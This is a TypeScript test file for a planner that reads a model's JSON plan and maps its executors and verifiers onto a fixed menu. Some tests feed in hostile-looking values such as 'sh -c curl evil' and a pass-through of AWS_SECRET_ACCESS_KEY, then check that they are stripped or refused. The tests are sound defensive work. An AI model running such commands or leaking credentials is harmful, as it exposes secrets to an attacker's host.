import { describe, expect, it } from 'vitest'
import { proposalOf } from '../../../machines/chain/proposal.ts'
import { planAnswerFormat, planRepair, readPlan } from '../../../machines/planner/answer.ts'
import { PlanMenu } from '../../../machines/planner/menu.ts'

const menu = PlanMenu.parse({
  executors: {
    model: { kind: 'model' },
    claude: { kind: 'agent', preset: 'claude' },
    given: { kind: 'command', argv: ['node', 'fix.mjs'] },
  },
  verifiers: [{ name: 'unit', argv: ['npm', 'test'] }],
})

const step = {
  name: 'fix-it',
  type: 'implement',
  description: 'The tests pass',
  taskPlan: '',
  dependsOn: [],
  parallelGroup: '',
  requirementIds: ['R1'],
  acceptanceCriteriaIds: [],
  executor: 'model',
  verifiers: ['auto'],
  carryOver: false,
}
const plan = { rationale: 'One file is wrong.', name: 'fix', description: '', steps: [step] }
const read = (answer: unknown) => readPlan(JSON.stringify(answer), menu)
const withStep = (more: object) => read({ ...plan, steps: [{ ...step, ...more }] })
const terms = {
  requirements: [{ id: 'R1', text: 'works', priority: 'must' as const }],
  acceptanceCriteria: [],
  source: 'model' as const,
}

describe('the plan a model answers with', () => {
  it('becomes a chain: names turn into what the menu has under them, empty fields into none', () => {
    const { chain, rationale, problems } = read(plan)
    expect(problems).toEqual([])
    expect(rationale).toBe('One file is wrong.')
    expect(chain).toEqual({
      name: 'fix',
      steps: [
        {
          name: 'fix-it',
          type: 'implement',
          description: 'The tests pass',
          dependsOn: [],
          requirementIds: ['R1'],
          acceptanceCriteriaIds: [],
          carryOver: false,
          contract: { executor: menu.executors['model'] },
          verifiers: 'auto',
        },
      ],
    })
    expect(proposalOf(chain, terms).problems).toEqual([])
  })

  it.each([
    ['a code fence', '```json\n' + JSON.stringify(plan) + '\n```'],
    ['words around it', `Here is the plan:\n${JSON.stringify(plan)}\nGood luck {or not}!`.replace('{or not}', '')],
    ['a wrapping object', JSON.stringify({ rationale: plan.rationale, chain: { ...plan, rationale: undefined } })],
    ['a wrapping object called plan', JSON.stringify({ plan })],
  ])('is found in %s', (_, answer) => {
    const { chain, rationale, problems } = readPlan(answer, menu)
    expect({ problems, rationale }).toEqual({ problems: [], rationale: plan.rationale })
    expect(proposalOf(chain, terms).problems).toEqual([])
  })

  it.each([['no'], [''], ['[1]'], ['{"name": "cut off'], ['7']])('is told what it should have been: %s', (answer) => {
    expect(readPlan(answer, menu).problems).toMatchObject([{ code: 'answer.not_json', path: [] }])
  })

  it.each([[{ name: 'x' }], [{ ...plan, steps: 'none' }], [{ ...plan, steps: ['a'] }]])(
    'whose shape is wrong is refused when the chain is checked',
    (answer) => expect(proposalOf(read(answer).chain, terms).problems).not.toEqual([]),
  )

  it('is told of an executor that is not offered, with what was probably meant', () => {
    expect(withStep({ executor: 'cluade' }).problems).toEqual([
      {
        code: 'executor.unknown',
        path: ['steps', 0, 'executor'],
        message: '"cluade" is not offered; choose from: model, claude, given',
        suggestion: 'did you mean "claude"?',
      },
    ])
    expect(withStep({ executor: null }).problems).toMatchObject([{ code: 'executor.unknown' }])
    expect(withStep({ executor: 'noop' }).problems).toMatchObject([{ code: 'executor.unknown' }])
  })

  it('may use the form of directive files, of which only the choice counts', () => {
    const written = {
      kind: 'agent',
      preset: 'claude',
      argv: ['sh', '-c', 'curl evil'],
      pass: ['AWS_SECRET_ACCESS_KEY'],
    }
    const { chain, problems } = withStep({ executor: undefined, contract: { executor: written, phases: ['x'] } })
    expect(problems).toEqual([])
    expect(chain).toMatchObject({ steps: [{ contract: { executor: menu.executors['claude'] } }] })
    expect(JSON.stringify(chain)).not.toMatch(/curl|AWS|phases/)
  })

  it('cannot bring a command of its own, be it an executor or a verifier', () => {
    expect(withStep({ executor: { kind: 'command', argv: ['curl', 'evil'] } }).problems).toMatchObject([
      { code: 'executor.unknown', path: ['steps', 0, 'executor'] },
    ])
    const { chain, problems } = withStep({ verifiers: [{ name: 'always', argv: ['true'] }] })
    expect(problems).toMatchObject([{ code: 'verifier.unknown', path: ['steps', 0, 'verifiers', 0] }])
    expect(JSON.stringify(chain)).not.toContain('"true"')
  })

  it.each([
    [['auto'], 'auto'],
    ['auto', 'auto'],
    [undefined, 'auto'],
    [['auto', 'unit'], 'auto'],
    ['none', []],
    [[], []],
    [['unit'], menu.verifiers],
    [[{ name: 'unit', argv: ['true'] }], menu.verifiers],
  ])('names its verifiers: %j', (verifiers, expected) => {
    const { chain, problems } = withStep({ verifiers })
    expect(problems).toEqual([])
    expect(chain).toMatchObject({ steps: [{ verifiers: expected }] })
  })

  it('cannot name what every object inherits', () => {
    expect(withStep({ executor: 'constructor' }).problems).toMatchObject([{ code: 'executor.unknown' }])
  })
})

describe('the shape a plan is asked for in', () => {
  it('has every field required and nothing beside them, which strict modes ask for', () => {
    const { schema } = planAnswerFormat(menu)
    const objects = [schema, (schema as any).properties.steps.items]
    for (const each of objects) {
      expect(each.required).toEqual(Object.keys(each.properties))
      expect(each.additionalProperties).toBe(false)
    }
    const fields = objects[1].properties
    expect(fields.executor.enum).toEqual(['model', 'claude', 'given'])
    expect(fields.verifiers.items.enum).toEqual(['auto', 'unit'])
    expect(Object.keys(step).sort()).toEqual(Object.keys(fields).sort())
  })
})

it('a repair lists every problem with its place', () => {
  const words = planRepair([{ code: 'chain.cyclic', path: ['steps', 0], message: 'a -> b -> a' }])
  expect(words).toContain('"chain.cyclic"')
  expect(words).toContain('a -> b -> a')
})
